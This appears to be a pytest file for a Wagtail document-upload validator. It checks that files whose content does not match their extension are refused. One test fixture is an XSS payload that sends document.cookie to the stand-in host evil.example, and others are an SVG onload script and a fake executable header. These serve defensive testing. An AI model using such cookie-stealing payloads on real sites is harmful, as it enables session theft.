"""A document's content must match its extension: a web page named x.pdf is refused with a message,
in the single upload form and in the multiple upload, while real files of every allowed kind pass."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from wagtail.documents import get_document_model
from wagtail.models import Collection

from core.demo.files import make_docx, make_pdf

HTML = b"<!DOCTYPE html><html><body><script>document.location='http://evil.example/'+document.cookie</script></body></html>"


def upload(client, name, content, title="Dokument testowy"):
    return client.post(reverse("wagtaildocs:add"), {
        "title": title, "collection": Collection.get_first_root_node().pk,
        "file": SimpleUploadedFile(name, content),
    })


@pytest.mark.django_db
@pytest.mark.parametrize("name, content", [
    ("uchwala.pdf", HTML), ("zalacznik.docx", HTML), ("tabela.xlsx", b"MZ\x90\x00 a program"),
    ("lista.csv", HTML), ("notatka.txt", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
])
def test_a_file_whose_content_is_not_its_extension_is_refused(client, admin_user, name, content):
    client.force_login(admin_user)
    count = get_document_model().objects.count()
    response = upload(client, name, content)
    assert response.status_code == 200
    errors = " ".join(str(error) for error in response.context["form"].errors["file"])
    assert "Plik" in errors and ("zawartość" in errors or "zwykłym tekstem" in errors), errors
    assert get_document_model().objects.count() == count


@pytest.mark.django_db
@pytest.mark.parametrize("name, content", [
    ("uchwala.pdf", make_pdf("Uchwała", ["Tekst uchwały."])), ("regulamin.docx", make_docx("Regulamin", ["Tekst."])),
    ("lista.csv", "numer;organ\n1/2014;Zarząd Związku\n".encode()), ("notatka.txt", "Zażółć gęślą jaźń".encode("cp1250")),
])
def test_real_files_pass(client, admin_user, name, content):
    client.force_login(admin_user)
    assert upload(client, name, content).status_code == 302
    assert get_document_model().objects.filter(title="Dokument testowy").exists()


@pytest.mark.django_db
def test_the_multiple_upload_refuses_it_too(client, admin_user):
    client.force_login(admin_user)
    response = client.post(reverse("wagtaildocs:add_multiple"), {
        "files[]": SimpleUploadedFile("uchwala.pdf", HTML), "collection": Collection.get_first_root_node().pk,
    }, headers={"x-requested-with": "XMLHttpRequest"})
    assert response.status_code == 200
    data = response.json()
    assert data["success"] is False and "zawartość" in str(data)
    assert not get_document_model().objects.filter(title="uchwala").exists()
